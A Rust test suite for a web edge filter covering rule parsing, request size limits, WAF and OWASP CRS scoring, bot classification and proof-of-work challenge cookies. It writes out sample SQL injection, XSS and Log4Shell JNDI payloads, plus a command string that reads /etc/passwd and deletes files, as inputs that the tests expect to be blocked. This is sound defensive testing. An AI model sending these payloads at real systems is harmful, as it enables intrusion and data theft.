use serde_json::json;

use super::*;
use crate::challenge;
use crate::request::BotManagement;

const KEY: &[u8] = b"filter-test-challenge-key";
const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

struct WithKey;
impl Secrets for WithKey {
    fn challenge_key(&self) -> Option<Vec<u8>> {
        Some(KEY.to_vec())
    }
}
struct NoKey;
impl Secrets for NoKey {}

fn rules(filter: serde_json::Value) -> Rules {
    let doc = json!({ "version": 1, "phases": { "filter": filter } });
    crate::rules::parse(doc.to_string().as_bytes()).unwrap_or_else(|e| panic!("{e}"))
}

fn req(method: &str, url: &str, headers: &[(&str, &str)]) -> RequestInfo {
    let mut r = RequestInfo::from_url(method, url).unwrap();
    r.headers = headers.iter().map(|(n, v)| (n.to_ascii_lowercase(), v.to_string())).collect();
    r.client_ip = "198.51.100.7".parse().ok();
    r
}

/// What Chrome 124 sends on a navigation (over https: client hints and Fetch Metadata too).
fn browser(url: &str) -> RequestInfo {
    req(
        "GET",
        url,
        &[
            ("user-agent", CHROME),
            ("accept", "text/html"),
            ("accept-language", "en"),
            ("accept-encoding", "gzip"),
            ("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
            ("sec-ch-ua-mobile", "?0"),
            ("sec-ch-ua-platform", "\"Windows\""),
            ("sec-fetch-dest", "document"),
            ("sec-fetch-mode", "navigate"),
            ("sec-fetch-site", "none"),
        ],
    )
}

fn run_with<S: Secrets>(rules: &Rules, r: &RequestInfo, now_ms: u64, s: &S) -> (Verdict, Ctx) {
    let mut ctx = Ctx::new("0f8e-11aa", now_ms);
    let v = run(rules, r, &mut ctx, s);
    (v, ctx)
}

fn status(v: &Verdict) -> u16 {
    match v {
        Verdict::Respond(r) => r.status,
        Verdict::Continue => 0,
    }
}

#[test]
fn first_match_wins_and_log_mode_continues() {
    let r = rules(json!([
        { "id": "shadow", "when": { "paths": ["/x"] }, "action": "block", "mode": "log" },
        { "id": "office", "when": { "ips": ["198.51.100.0/24"] }, "action": "allow" },
        { "id": "all", "action": "block", "params": { "status": 451, "message": "nope" } },
    ]));
    let (v, ctx) = run_with(&r, &browser("https://a.example/x"), 0, &NoKey);
    assert_eq!(v, Verdict::Continue);
    let rules: Vec<_> = ctx.matched_rules().collect();
    assert_eq!(rules, ["shadow", "office"]);
    let mut other = browser("https://a.example/x");
    other.client_ip = "203.0.113.1".parse().ok();
    other.headers.retain(|(n, _)| n != "accept");
    let (v, _) = run_with(&r, &other, 0, &NoKey);
    let Verdict::Respond(resp) = v else { panic!() };
    assert_eq!(resp.status, 451);
    assert!(resp.body.contains("\"rule\":\"all\"") && resp.body.contains("nope"), "{}", resp.body);
}

#[test]
fn block_answers_html_to_browsers() {
    let r = rules(json!([{ "id": "b1", "action": "block", "params": { "message": "<no>" } }]));
    let (v, _) = run_with(&r, &browser("https://a.example/"), 0, &NoKey);
    let Verdict::Respond(resp) = v else { panic!() };
    assert!(resp.headers.iter().any(|(n, v)| n == "content-type" && v.starts_with("text/html")));
    assert!(resp.body.contains("&lt;no&gt;") && !resp.body.contains("<no>"));
    let api = req("GET", "https://a.example/", &[("accept", "application/json, text/html")]);
    let (v, _) = run_with(&r, &api, 0, &NoKey);
    let Verdict::Respond(resp) = v else { panic!() };
    assert!(resp.body.starts_with('{'));
}

#[test]
fn limits() {
    let r = rules(json!([{ "id": "sizes", "action": "limits",
        "params": { "max_body_bytes": 52428800, "max_url_bytes": 64, "max_headers": 5, "max_header_bytes": 200 } }]));
    let ok = req("POST", "https://a.example/up", &[("content-length", "52428800")]);
    assert_eq!(status(&run_with(&r, &ok, 0, &NoKey).0), 0);
    let big = req("POST", "https://a.example/up", &[("content-length", "52428801")]);
    assert_eq!(status(&run_with(&r, &big, 0, &NoKey).0), 413);
    let bad = req("POST", "https://a.example/up", &[("content-length", "lots")]);
    assert_eq!(status(&run_with(&r, &bad, 0, &NoKey).0), 400);
    let long = req("GET", &format!("https://a.example/{}", "a".repeat(70)), &[]);
    assert_eq!(status(&run_with(&r, &long, 0, &NoKey).0), 414);
    let many = req("GET", "https://a.example/", &[("a", "1"), ("b", "1"), ("c", "1"), ("d", "1"), ("e", "1"), ("f", "1")]);
    assert_eq!(status(&run_with(&r, &many, 0, &NoKey).0), 431);
    let fat = req("GET", "https://a.example/", &[("a", &"x".repeat(300))]);
    assert_eq!(status(&run_with(&r, &fat, 0, &NoKey).0), 431);
    // Streamed bodies are left to the shell, with the smallest limit reached.
    let streamed = req("POST", "https://a.example/up", &[("transfer-encoding", "chunked")]);
    assert_eq!(run_with(&r, &streamed, 0, &NoKey).1.body_limit, Some(52428800));
    assert_eq!(run_with(&r, &ok, 0, &NoKey).1.body_limit, None, "declared length already checked");
    let two = rules(json!([{ "id": "a", "action": "limits", "params": { "max_body_bytes": 100 } },
                          { "id": "b", "action": "limits", "params": { "max_body_bytes": 10 } },
                          { "id": "c", "action": "limits", "mode": "log", "params": { "max_body_bytes": 1 } }]));
    assert_eq!(run_with(&two, &streamed, 0, &NoKey).1.body_limit, Some(10));
}

#[test]
fn waf_blocks_attacks_in_query_body_and_headers() {
    let r = rules(json!([{ "id": "crs", "action": "waf", "params": { "paranoia": 1 } }]));
    let sqli = req("GET", "https://a.example/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", &[]);
    let (v, ctx) = run_with(&r, &sqli, 0, &NoKey);
    assert_eq!(status(&v), 403);
    let note = ctx.records.iter().find_map(|r| r.note.clone()).unwrap();
    assert!(note.contains("query:id") && !note.contains("password"), "{note}");

    let benign = req("GET", "https://a.example/search?q=select+the+union+of+two+sets+from+my+notes", &[]);
    assert_eq!(status(&run_with(&r, &benign, 0, &NoKey).0), 0);

    let mut body = req("POST", "https://a.example/login", &[("content-type", "application/x-www-form-urlencoded")]);
    assert_eq!(body_cap(&r, &body), Some(crate::waf::DEFAULT_BODY_LIMIT));
    body.body = Some(b"user=admin%27%20OR%201%3D1--&pass=x".to_vec());
    assert_eq!(status(&run_with(&r, &body, 0, &NoKey).0), 403);
    body.body = Some(br#"user=jane&bio=I+select+the+best+union+reps"#.to_vec());
    assert_eq!(status(&run_with(&r, &body, 0, &NoKey).0), 0);

    let header = req("GET", "https://a.example/", &[("referer", "1' UNION SELECT password FROM users--")]);
    assert_eq!(status(&run_with(&r, &header, 0, &NoKey).0), 403);

    // Log mode records and lets the request on.
    let shadow = rules(json!([{ "id": "crs", "action": "waf", "mode": "log" }]));
    let (v, ctx) = run_with(&shadow, &sqli, 0, &NoKey);
    assert_eq!(v, Verdict::Continue);
    assert!(ctx.records[0].note.as_deref().unwrap_or("").starts_with("log only: score"));
}

#[test]
fn body_is_read_only_when_a_waf_rule_needs_it() {
    let r = rules(json!([{ "id": "crs", "when": { "paths": ["/api/*"] }, "action": "waf", "params": { "body_limit_bytes": 1000 } },
                        { "id": "crs2", "when": { "paths": ["/api/big/*"] }, "action": "waf", "params": { "body_limit_bytes": 5000 } }]));
    assert_eq!(body_cap(&r, &req("POST", "https://a.example/api/x", &[])), Some(1000));
    assert_eq!(body_cap(&r, &req("PUT", "https://a.example/api/big/x", &[])), Some(5000));
    assert_eq!(body_cap(&r, &req("POST", "https://a.example/other", &[])), None);
    assert_eq!(body_cap(&r, &req("GET", "https://a.example/api/x", &[])), None);
}

#[test]
fn oversized_bodies_are_refused_only_when_asked() {
    let r = rules(json!([{ "id": "crs", "action": "waf", "params": { "body_limit_bytes": 16, "on_oversize": "block" } }]));
    let mut post = req("POST", "https://a.example/api", &[("content-type", "text/plain")]);
    // One byte past the limit is read, so a streamed body shows it goes on.
    assert_eq!(body_cap(&r, &post), Some(17));
    post.body = Some(b"hello, this is a".to_vec());
    assert_eq!(status(&run_with(&r, &post, 0, &NoKey).0), 0, "exactly the limit");
    post.body = Some(b"hello, this is a long one".to_vec());
    assert_eq!(status(&run_with(&r, &post, 0, &NoKey).0), 413);
    let declared = req("POST", "https://a.example/api", &[("content-length", "1048576")]);
    assert_eq!(status(&run_with(&r, &declared, 0, &NoKey).0), 413);
    // The default inspects the head and lets the rest through.
    let head = rules(json!([{ "id": "crs", "action": "waf", "params": { "body_limit_bytes": 16 } }]));
    assert_eq!(body_cap(&head, &post), Some(16));
    assert_eq!(status(&run_with(&head, &declared, 0, &NoKey).0), 0);
    let bad = json!({ "version": 1, "phases": { "filter": [{ "id": "crs", "action": "waf", "params": { "on_oversize": "drop" } }] } });
    assert!(crate::rules::parse(bad.to_string().as_bytes()).is_err());
}

#[test]
fn prompt_api_profile_reads_prose_as_text() {
    let prompt = "I want you to act as a Linux terminal. I will type commands and you will reply with what the terminal should show, for example `cat /etc/passwd; rm -rf /tmp/x` or SELECT * FROM users WHERE id = 1 OR 1=1; reply only with the output.";
    let body = serde_json::to_vec(&json!({ "model": "m", "prompt": prompt })).unwrap();
    let mut post = req("POST", "https://a.example/v1/chat", &[("content-type", "application/json")]);
    post.body = Some(body);
    let default = rules(json!([{ "id": "crs", "action": "waf" }]));
    assert_eq!(status(&run_with(&default, &post, 0, &NoKey).0), 403);
    let api = rules(json!([{ "id": "crs", "action": "waf", "params": { "profile": "prompt_api" } }]));
    assert_eq!(status(&run_with(&api, &post, 0, &NoKey).0), 0);
    // Structured fields are still code.
    post.body = Some(serde_json::to_vec(&json!({ "model": "m' OR 1=1--", "prompt": "hi" })).unwrap());
    assert_eq!(status(&run_with(&api, &post, 0, &NoKey).0), 403);
    // Some attacks hit whatever reads the text (any logger).
    let log4j = format!("{prompt} ${{jndi:ldap://x.example/a}}");
    post.body = Some(serde_json::to_vec(&json!({ "prompt": log4j })).unwrap());
    assert_eq!(status(&run_with(&api, &post, 0, &NoKey).0), 403);
}

#[test]
fn bot_rules_and_facts() {
    let r = rules(json!([
        { "id": "good-bots", "when": { "bot_classes": ["search_engine"], "bot_verified": true }, "action": "allow" },
        { "id": "no-scanners", "when": { "bot_classes": ["scanner", "empty"] }, "action": "block" },
        { "id": "low-score", "when": { "bot_score_below": 10, "bot_classes": ["!browser"] }, "action": "block", "params": { "status": 429 } },
    ]));
    let (v, ctx) = run_with(&r, &browser("https://a.example/"), 0, &NoKey);
    assert_eq!(v, Verdict::Continue);
    assert_eq!(ctx.facts.bot_class.as_deref(), Some("browser"));
    assert!(ctx.facts.bot_score.unwrap() >= 80);

    let sqlmap = req("GET", "https://a.example/", &[("user-agent", "sqlmap/1.7")]);
    let (v, ctx) = run_with(&r, &sqlmap, 0, &NoKey);
    assert_eq!(status(&v), 403);
    assert_eq!((ctx.facts.bot_class.as_deref(), ctx.facts.bot_score), (Some("scanner"), Some(1)));

    let curl = req("GET", "https://a.example/", &[("user-agent", "curl/8.5.0")]);
    assert_eq!(status(&run_with(&r, &curl, 0, &NoKey).0), 429);

    let google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let mut g = req("GET", "https://a.example/", &[("user-agent", google)]);
    assert_eq!(status(&run_with(&r, &g, 0, &NoKey).0), 429, "unverified impostor");
    g.cf.bot_management = Some(BotManagement { score: Some(1), verified_bot: true });
    g.bot_verdict = Default::default(); // the verdict is cached per request
    assert_eq!(status(&run_with(&r, &g, 0, &NoKey).0), 0, "verified search engine");

    // Cloudflare's score lowers a browser's.
    let mut b = browser("https://a.example/");
    b.cf.bot_management = Some(BotManagement { score: Some(2), verified_bot: false });
    let r2 = rules(json!([{ "id": "cf-low", "when": { "bot_score_below": 10 }, "action": "block" }]));
    let (v, ctx) = run_with(&r2, &b, 0, &NoKey);
    assert_eq!((status(&v), ctx.facts.bot_score), (403, Some(2)));
}

#[test]
fn challenge_round_trip() {
    let r = rules(json!([{ "id": "pow", "when": { "paths": ["/app/*"] }, "action": "challenge", "params": { "difficulty": 8, "ttl_seconds": 600 } }]));
    let now_ms = 1_800_000_000_000;
    let page = browser("https://a.example/app/home?x=1");
    let (v, _) = run_with(&r, &page, now_ms, &WithKey);
    let Verdict::Respond(resp) = v else { panic!("challenge expected") };
    assert_eq!(resp.status, 403);
    let token = resp.body.split("T=\"").nth(1).and_then(|s| s.split('"').next()).unwrap().to_string();
    assert!(resp.body.contains("/app/home%3Fx%3D1"));

    let answer = challenge::solve(&token, 8);
    let url = format!("https://a.example{}?token={token}&answer={answer}&return=%2Fapp%2Fhome%3Fx%3D1", challenge::VERIFY_PATH);
    let mut verify = browser(&url);
    let (v, _) = run_with(&r, &verify, now_ms + 2_000, &WithKey);
    let Verdict::Respond(resp) = v else { panic!() };
    assert_eq!(resp.status, 303);
    let header = |n: &str| resp.headers.iter().find(|(h, _)| h == n).map(|(_, v)| v.clone()).unwrap();
    assert_eq!(header("location"), "/app/home?x=1");
    let set_cookie = header("set-cookie");
    assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("Secure") && set_cookie.contains("Max-Age=600"));
    let cookie = set_cookie.split(';').next().unwrap().to_string();

    let mut again = browser("https://a.example/app/home");
    again.headers.push(("cookie".into(), format!("a=b; {cookie}")));
    let (v, ctx) = run_with(&r, &again, now_ms + 5_000, &WithKey);
    assert_eq!(v, Verdict::Continue);
    assert_eq!(ctx.records[0].note.as_deref(), Some("cleared"));
    // Expired, forged, or presented by another client: challenged again.
    assert_eq!(status(&run_with(&r, &again, now_ms + 700_000, &WithKey).0), 403);
    let mut other = again.clone();
    other.client_ip = "203.0.113.5".parse().ok();
    other.bot_verdict = Default::default();
    assert_eq!(status(&run_with(&r, &other, now_ms + 5_000, &WithKey).0), 403);
    let mut forged = browser("https://a.example/app/home");
    forged.headers.push(("cookie".into(), format!("{}=9999999999.AAAA", challenge::COOKIE)));
    let (v, ctx) = run_with(&r, &forged, now_ms + 5_000, &WithKey);
    assert_eq!(status(&v), 403);
    assert!(ctx.records[0].note.as_deref().unwrap().contains("bad signature"));

    // A wrong answer, or a replay by another client, is refused.
    verify = browser(&url.replace(&format!("answer={answer}"), "answer=x"));
    assert_eq!(status(&run_with(&r, &verify, now_ms, &WithKey).0), 403);
    let mut thief = browser(&url);
    thief.client_ip = "203.0.113.5".parse().ok();
    assert_eq!(status(&run_with(&r, &thief, now_ms, &WithKey).0), 403);
}

#[test]
fn challenge_without_key_follows_on_error() {
    let open = rules(json!([{ "id": "pow", "action": "challenge" }]));
    assert_eq!(run_with(&open, &browser("https://a.example/"), 0, &NoKey).0, Verdict::Continue);
    let closed = rules(json!([{ "id": "pow", "action": "challenge", "on_error": "closed" }]));
    assert_eq!(status(&run_with(&closed, &browser("https://a.example/"), 0, &NoKey).0), 503);
    // Without challenge rules the verify path is the origin's.
    let none = rules(json!([]));
    assert_eq!(run_with(&none, &browser(&format!("https://a.example{}", challenge::VERIFY_PATH)), 0, &WithKey).0, Verdict::Continue);
}

#[test]
fn validation_paths() {
    let doc = json!({ "version": 1, "phases": { "filter": [
        { "id": "a", "action": "waf", "params": { "paranoia": 7 } },
        { "id": "b", "action": "waf", "params": { "paranoya": 1 } },
        { "id": "c", "action": "challenge", "params": { "difficulty": 40 } },
        { "id": "d", "action": "limits", "params": {} },
        { "id": "e", "action": "block", "when": { "bot_classes": ["robot"], "bot_score_below": 0 } },
        { "id": "f", "action": "allow", "params": { "x": 1 } },
    ] } });
    let e = crate::rules::parse(doc.to_string().as_bytes()).unwrap_err();
    let paths: Vec<&str> = e.0.iter().map(|e| e.path.as_str()).collect();
    for want in [
        "$.phases.filter[0].params.paranoia",
        "$.phases.filter[1].params.paranoya",
        "$.phases.filter[2].params.difficulty",
        "$.phases.filter[3].params",
        "$.phases.filter[4].when.bot_classes[0]",
        "$.phases.filter[4].when.bot_score_below",
        "$.phases.filter[5].params",
    ] {
        assert!(paths.contains(&want), "missing {want} in {paths:?}");
    }
}

#[test]
fn waf_runs_owasp_crs_as_a_ruleset() {
    let r = rules(json!([{ "id": "crs4", "action": "waf", "params": { "rulesets": ["owasp-crs"], "paranoia": 1, "threshold": 5 } }]));
    let sqli = browser("https://a.example/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--");
    let (v, ctx) = run_with(&r, &sqli, 0, &NoKey);
    assert_eq!(status(&v), 403);
    let note = ctx.records.iter().find_map(|r| r.note.clone()).unwrap();
    assert!(note.starts_with("owasp-crs score ") && note.contains("crs-942") && note.contains("@ARGS:id"), "{note}");
    assert!(!note.contains("password"), "{note}");
    let (v, ctx) = run_with(&r, &browser("https://a.example/search?q=red+shoes&page=2"), 0, &NoKey);
    assert_eq!(status(&v), 0, "{:?}", ctx.records);
    let mut form = req("POST", "https://a.example/c", &[("user-agent", CHROME), ("accept", "*/*"), ("content-type", "application/x-www-form-urlencoded"), ("content-length", "40")]);
    form.body = Some(b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_vec());
    assert_eq!(status(&run_with(&r, &form, 0, &NoKey).0), 403);

    // Both sets: either one over its threshold blocks, both are logged.
    let both = rules(json!([{ "id": "w", "action": "waf", "params": { "rulesets": ["edge", "owasp-crs"] } }]));
    let (v, ctx) = run_with(&both, &sqli, 0, &NoKey);
    assert_eq!(status(&v), 403);
    let note = ctx.records.iter().find_map(|r| r.note.clone()).unwrap();
    assert!(note.starts_with("score ") && note.contains("; owasp-crs score "), "{note}");

    // A CRS exclusion by rule id range on a path lets the request through.
    let excl = rules(json!([{ "id": "w", "action": "waf", "params": { "rulesets": ["owasp-crs"],
        "exclusions": [{ "paths": ["/item"], "rule_ids": ["942000-942999"] }] } }]));
    let (v, ctx) = run_with(&excl, &sqli, 0, &NoKey);
    assert_eq!(status(&v), 0, "{:?}", ctx.records);
}

#[test]
fn waf_ruleset_validation() {
    let doc = json!({ "version": 1, "phases": { "filter": [
        { "id": "a", "action": "waf", "params": { "rulesets": [] } },
        { "id": "b", "action": "waf", "params": { "rulesets": ["owasp-crs", "owasp-crs"] } },
        { "id": "c", "action": "waf", "params": { "rulesets": ["modsecurity"] } },
        { "id": "d", "action": "waf", "params": { "rulesets": ["owasp-crs"], "exclusions": [{ "targets": ["query:*"] }] } },
    ] } });
    let e = crate::rules::parse(doc.to_string().as_bytes()).unwrap_err();
    let paths: Vec<&str> = e.0.iter().map(|e| e.path.as_str()).collect();
    for want in ["$.phases.filter[0].params.rulesets", "$.phases.filter[1].params.rulesets[1]", "$.phases.filter[3].params.exclusions[0]"] {
        assert!(paths.contains(&want), "{want} not in {paths:?}");
    }
    assert!(paths.iter().any(|p| p.starts_with("$.phases.filter[2].params")), "{paths:?}");
}
